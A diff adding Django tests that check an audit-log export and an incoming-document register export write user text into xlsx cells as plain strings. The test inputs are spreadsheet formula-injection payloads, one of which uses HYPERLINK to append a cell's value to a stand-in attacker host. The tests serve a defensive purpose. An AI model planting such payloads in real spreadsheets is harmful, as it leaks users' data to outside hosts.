@@ -115,3 +115,59 @@ def test_statistics_report_writes_unit_names_as_text(tree, admin_user, client):
     units = {row[1].value: row[1].data_type for row in book["Theo đơn vị"].iter_rows(min_row=2)}
     assert units["=1+1"] == "s"
     assert book["Theo đơn vị"].freeze_panes == "A2"
+
+
+def _cells(content: bytes) -> list:
+    import io
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+def test_the_audit_log_export_writes_recorded_text_as_text(people, tree):
+    from django.test import Client
+
+    from dangvu.audit.services import audit_log
+
+    audit_log(
+        actor=people.admin,
+        action="other",
+        event="test.formula",
+        object_repr='=HYPERLINK("http://evil.example")',
+    )
+    client = Client()
+    client.force_login(people.admin)
+    response = client.get("/audit/export.xlsx")
+    assert response.status_code == 200
+    cells = [c for c in _cells(response.content) if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_the_document_register_writes_subjects_as_text(people, tree):
+    from datetime import date
+
+    from django.test import Client
+
+    from dangvu.documents import services
+
+    services.document_register_incoming(
+        actor=people.admin,
+        org=tree.xa,
+        doc_type="CV",
+        subject='=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
+        sender_name="Tỉnh ủy",
+        received_on=date(2026, 11, 30),
+    )
+    client = Client()
+    client.force_login(people.admin)
+    response = client.get(
+        "/api/v1/documents/register",
+        {"direction": "incoming", "year": 2026, "format": "xlsx", "org": tree.xa.pk},
+    )
+    assert response.status_code == 200, response.content[:300]
+    cells = [c for c in _cells(response.content) if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells
+    assert all(c.data_type == "s" for c in cells)
